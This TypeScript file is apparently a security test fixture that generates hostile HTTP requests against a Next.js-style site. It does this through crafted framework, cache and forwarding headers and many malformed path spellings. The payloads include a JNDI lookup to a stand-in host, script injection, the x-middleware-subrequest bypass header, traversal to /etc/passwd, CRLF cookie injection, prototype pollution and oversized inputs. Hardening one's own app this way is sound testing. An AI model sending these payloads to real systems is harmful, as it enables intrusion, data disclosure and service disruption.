import type { RawRequest } from './raw-request';

/** Below the 16 kB that Node reads of all headers together. */
const long = 'x'.repeat(12_000);
const deep = encodeURIComponent('["",'.repeat(500));

/** Headers that steer a framework, a cache or a parser. */
const headerSets: Record<string, string>[] = [
  { rsc: '1' },
  { rsc: '1', 'next-router-state-tree': deep },
  { rsc: '1', 'next-router-prefetch': '2', 'next-router-segment-prefetch': '/__proto__/%zz' },
  { 'next-action': 'x' },
  { 'next-url': '//stranger.example/%zz' },
  { 'x-middleware-prefetch': '1' },
  { 'x-middleware-subrequest': Array(5).fill('middleware').join(':') },
  { 'x-middleware-rewrite': 'http://stranger.example/' },
  { 'x-nextjs-data': '1', 'x-matched-path': '/[site]/about' },
  { 'x-prerender-revalidate': '1' },
  { 'x-forwarded-host': 'stranger.example', 'x-forwarded-proto': 'javascript' },
  { 'x-forwarded-for': `${'1,'.repeat(4_000)}::ffff:%zz` },
  { 'x-http-method-override': 'PURGE' },
  { cookie: `mainstreet-preview=${long}` },
  { cookie: 'mainstreet-preview=a.9999999999999.b; mainstreet-preview=; =; ;;' },
  { cookie: `${'a=b;'.repeat(2_500)}` },
  { 'accept-language': `${'es;q=9,'.repeat(1_500)}*;q=` },
  { 'accept-encoding': `${'gzip;q=0.0000001,'.repeat(600)}identity;q=0` },
  { accept: '\u00ff/\u0080;q=\u00a0' },
  { range: `bytes=${'0-0,'.repeat(2_000)}-1` },
  { 'if-none-match': `W/"${long}`, 'if-modified-since': 'the day before' },
  { 'sec-gpc': long },
  { 'user-agent': '${jndi:ldap://stranger.example/a} <script>alert(1)</script>' },
  { 'content-type': 'multipart/form-data; boundary=', 'transfer-encoding': 'chunked' },
  { 'content-encoding': 'br', 'content-type': 'application/json; charset=\u00ff' },
  { authorization: `Bearer ${long}` },
  { origin: 'null', referer: 'http://[::1%zz]/' },
];

/** Spellings of an address: most are no page, some redirect to it. */
const spellingsOf = (path: string): string[] => {
  const stem = path === '/' ? '' : path;
  return [
    `${stem}/`,
    `${stem}//`,
    `/${path}`,
    `${path.toUpperCase()}`,
    `${stem}%00`,
    `${stem}%ff%fe`,
    `${stem}%0d%0aset-cookie:%20a=b`,
    `${stem}%2f..%2f..%2fetc%2fpasswd`,
    `${stem}/../../../etc/passwd`,
    `${stem}\\..\\..`,
    `${stem};a=b`,
    `${stem}.rsc`,
    `${stem}.txt`,
    `${stem}.segments/_tree.segment.rsc`,
    `${stem}/__proto__`,
    `${stem}/constructor/prototype`,
    `${stem}/page/0`,
    `${stem}/page/1`,
    `${stem}/page/01`,
    `${stem}/page/-1e9`,
    `${stem}/%F0%9F%8F%A0`,
    `${stem}/${'x'.repeat(200)}`,
    `${stem}/${'x'.repeat(12_000)}`,
    `${stem}/${'y/'.repeat(5_000)}`,
    `${stem}?${'a=b&'.repeat(3_000)}`,
    `${stem}?_rsc=%zz&nxtPsite=..&__nextLocale=x`,
    `${path}?%5B%5D[__proto__]=1&a=%ff`,
  ];
};

/** Each address with every set of headers, and in every spelling. */
export const hostileRequestsTo = (path: string, host: string): RawRequest[] => [
  ...headerSets.map((headers) => ({ path, host, headers })),
  ...spellingsOf(path).map((spelling) => ({ path: spelling, host })),
];
